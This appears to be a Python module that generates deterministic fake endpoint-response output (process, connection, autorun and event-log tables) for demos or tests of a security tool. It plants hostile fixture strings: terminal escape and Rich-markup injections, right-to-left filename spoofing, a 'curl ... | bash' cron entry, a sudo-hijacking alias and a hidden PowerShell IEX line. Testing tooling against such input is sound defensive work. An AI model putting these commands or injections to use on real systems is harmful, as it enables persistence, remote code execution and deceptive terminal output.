"""What the demo scripts print: process and connection tables, autoruns, event logs, the PowerShell
transcript banner, and the hostile strings (terminal escapes, Rich markup, bidi overrides) planted in them.
All of it is deterministic: :func:`seeded_rng` seeds a ``random.Random`` from its arguments."""

from __future__ import annotations

import hashlib
import random
import re

from ..tenant import MachineRec

__all__ = [
    "ESC",
    "TRANSCRIPT_DIR",
    "WIN_PROCS",
    "autoruns",
    "event_log",
    "net_table",
    "proc_table",
    "seeded_rng",
    "short_host",
    "transcript",
]

TRANSCRIPT_DIR = "C:\\ProgramData\\Microsoft\\Windows Defender Advanced Threat Protection\\Temp\\PSScriptOutputs\\"
ESC = "\x1b"


def seeded_rng(*parts: object) -> random.Random:
    return random.Random(hashlib.sha256("|".join(map(str, parts)).encode()).digest())


def short_host(m: MachineRec) -> str:
    return m.name.split(".")[0].upper()


def transcript(m: MachineRec, rng: random.Random, when: str, body: str) -> str:
    guid = "%08x-%04x-%04x-%04x-%012x" % (
        rng.getrandbits(32),
        rng.getrandbits(16),
        rng.getrandbits(16),
        rng.getrandbits(16),
        rng.getrandbits(48),
    )
    path = f"{TRANSCRIPT_DIR}transcript_{guid}.txt"
    build = m.wire.get("osBuild") or 19045
    banner = (
        "**********************\n"
        "Windows PowerShell transcript start\n"
        f"Start time: {when}\n"
        "Username: NT AUTHORITY\\SYSTEM\n"
        "RunAs User: NT AUTHORITY\\SYSTEM\n"
        "Configuration Name: \n"
        f"Machine: {short_host(m)} (Microsoft Windows NT 10.0.{build}.0)\n"
        "Host Application: C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -ExecutionPolicy AllSigned "
        "-NoProfile -NonInteractive -File C:\\ProgramData\\Microsoft\\Windows Defender Advanced Threat Protection\\"
        "Downloads\\script.ps1\n"
        f"Process ID: {rng.randint(1000, 30000)}\n"
        "PSVersion: 5.1.19041.4522\n"
        "**********************\n"
        f"Transcript started, output file is {path}\n"
    )
    return banner + body


WIN_PROCS = [
    "System",
    "smss.exe",
    "csrss.exe",
    "wininit.exe",
    "services.exe",
    "lsass.exe",
    "svchost.exe",
    "svchost.exe",
    "svchost.exe",
    "MsMpEng.exe",
    "MsSense.exe",
    "SenseIR.exe",
    "explorer.exe",
    "RuntimeBroker.exe",
    "OneDrive.exe",
    "Teams.exe",
    "msedge.exe",
    "msedge.exe",
    "outlook.exe",
    "powershell.exe",
    "conhost.exe",
    "spoolsv.exe",
    "SearchIndexer.exe",
    "dllhost.exe",
    "taskhostw.exe",
    "sihost.exe",
    "ctfmon.exe",
    "winlogon.exe",
    "dwm.exe",
    "WmiPrvSE.exe",
]
_NIX_PROCS = [
    "/sbin/init",
    "[kthreadd]",
    "/lib/systemd/systemd-journald",
    "/usr/sbin/sshd -D",
    "/usr/sbin/cron -f",
    "/opt/microsoft/mdatp/sbin/wdavdaemon",
    "/usr/bin/containerd",
    "/usr/sbin/rsyslogd -n",
    "nginx: worker process",
    "/usr/bin/python3 /opt/app/server.py",
    "-bash",
    "/usr/lib/postgresql/15/bin/postgres",
    "sleep 3600",
]

# strings an attacker controls end up in output: keep the app honest
_NASTY = [
    f"C:\\Users\\Public\\upd.exe --title {ESC}]0;PWNED{chr(7)} --color {ESC}[31mRED{ESC}[0m",
    "C:\\Users\\Public\\[bold]notmalware[/bold].exe [/] [link=https://evil.example]click[/link]",
    "C:\\Users\\Public\\invoice\u202egpj.exe",
    f"powershell -w hidden -enc SQBFAFgA {ESC}[2J{ESC}[H cleared?",
]


def proc_table(m: MachineRec, rng: random.Random, pattern: str | None) -> str:
    lines = []
    if m.family == "windows":
        lines.append(f"{'ProcessId':>9} {'ParentProcessId':>15} {'Name':<24} CommandLine")
        lines.append(f"{'-' * 9:>9} {'-' * 15:>15} {'-' * 24:<24} -----------")
        pid = 4
        names = WIN_PROCS * 4
        for i, n in enumerate(names):
            if pattern and not re.fullmatch(pattern.replace("*", ".*"), n, re.I):
                continue
            pid += rng.randint(4, 400)
            cmd = f"C:\\Windows\\System32\\{n}" if i % 3 else f'"C:\\Program Files\\{n[:-4]}\\{n}" --type=renderer'
            lines.append(f"{pid:>9} {rng.randint(4, pid):>15} {n:<24} {cmd}")
        if not pattern:
            for k, s in enumerate(_NASTY):
                lines.append(f"{pid + 100 + k:>9} {1234:>15} {'upd.exe':<24} {s}")
    else:
        lines.append("USER         PID    PPID STARTED                  COMMAND")
        pid = 1
        for n in _NIX_PROCS * 6:
            if pattern and pattern not in n:
                continue
            lines.append(
                f"{'root' if pid < 900 else 'www-data':<10} {pid:>6} {max(1, pid // 3):>7} Mon Jun  2 07:{pid % 60:02d}:11 2024  {n}"
            )
            pid += rng.randint(1, 300)
        if not pattern:
            lines.append(
                f"nobody     {pid + 7:>6}       1 Mon Jun  2 07:59:59 2024  /tmp/.x/{ESC}[31mkworker{ESC}[0m [bold]x[/bold] \u202eexe.dab"
            )
    return "\n".join(lines) + "\n"


def net_table(m: MachineRec, rng: random.Random) -> str:
    lines = ["Proto LocalAddress:Port        RemoteAddress:Port          State        PID"]
    ip = m.wire.get("lastIpAddress") or "10.0.0.1"
    for _ in range(60):
        rp = rng.choice([443, 443, 443, 80, 445, 3389, 22, 8080, 5985])
        remote = f"{rng.randint(11, 223)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
        state = rng.choice(["Established", "Established", "TimeWait", "CloseWait", "Listen"])
        lines.append(
            f"TCP   {ip}:{rng.randint(49152, 65535):<14} {remote}:{rp:<12} {state:<12} {rng.randint(300, 20000)}"
        )
    lines.append(f"TCP   {ip}:4444           185.220.101.7:443           Established  6666   [red]beacon[/red]")
    return "\n".join(lines) + "\n"


def autoruns(m: MachineRec, rng: random.Random) -> tuple[str, str]:
    out = ["Location                                                   Entry                 Image Path"]
    if m.family == "windows":
        entries = [
            (
                "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
                "SecurityHealth",
                "C:\\Windows\\System32\\SecurityHealthSystray.exe",
            ),
            (
                "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
                "OneDrive",
                "C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe /background",
            ),
            ("HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", "[bold]Updater[/bold]", _NASTY[0]),
            (
                "Task Scheduler",
                "\\Microsoft\\Windows\\UpdateOrchestrator\\Schedule Scan",
                "C:\\Windows\\System32\\usoclient.exe StartScan",
            ),
            ("Task Scheduler", f"\\{ESC}]0;totally legit{chr(7)}Sync", _NASTY[2]),
            (
                "Services",
                "WinDefend",
                "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24050.7-0\\MsMpEng.exe",
            ),
            ("Services", "svc[/]helper", "C:\\ProgramData\\svc\\helper.exe [link=file:///etc/passwd]x[/link]"),
            ("WMI", "CommandLineEventConsumer: SCM Event Log Consumer", "powershell.exe -nop -w hidden -c IEX(...)"),
        ]
    else:
        entries = [
            ("/etc/crontab", "17 * * * *", "root cd / && run-parts --report /etc/cron.hourly"),
            ("/etc/cron.d/.hidden", "*/5 * * * *", f"curl -s http://198.51.100.9/x.sh | bash {ESC}[8m hidden {ESC}[0m"),
            ("/etc/systemd/system", "dbus-helper.service", "/usr/local/bin/[bold]dbus[/bold]-helper"),
            ("/root/.ssh/authorized_keys", "ssh-ed25519", "AAAAC3Nza... attacker@kali\u202e"),
            ("~/.bashrc", "alias sudo", "alias sudo='sudo /tmp/.k; sudo'"),
        ]
        if m.family == "macos":
            entries.append(("/Library/LaunchDaemons", "com.apple.updater.plist", "/Users/Shared/.updater"))
    for loc, name, img in entries:
        out.append(f"{loc:<58} {name:<21} {img}")
    err = "WARNING: Access to HKU\\S-1-5-21-1004336348-1177238915-682003330-1001 was denied; skipped.\n"
    return "\n".join(out) + "\n", err


def event_log(m: MachineRec, rng: random.Random, hours: int) -> str:
    ids = [
        (4624, "An account was successfully logged on."),
        (4625, "An account failed to log on."),
        (4688, "A new process has been created."),
        (7045, "A service was installed in the system."),
        (4104, "Creating Scriptblock text (1 of 1):"),
        (4672, "Special privileges assigned to new logon."),
    ]
    parts = []
    n = 9000 + rng.randint(0, 3000)
    for i in range(n):
        eid, msg = ids[(i * 7 + rng.randint(0, 5)) % len(ids)]
        parts.append(
            f"TimeCreated  : 2024-06-02 {(i // 600) % 24:02d}:{(i // 10) % 60:02d}:{i % 60:02d}\n"
            f"ProviderName : Microsoft-Windows-Security-Auditing\nId           : {eid}\n"
            f"Message      : {msg}\n               Subject: CONTOSO\\svc_{i % 17:02d}  Logon ID: 0x{rng.getrandbits(24):X}\n"
            f"               Process: C:\\Windows\\System32\\svchost.exe  Source: 10.{i % 250}.{(i * 3) % 250}.{i % 200 + 1}\n\n"
        )
    return "".join(parts)
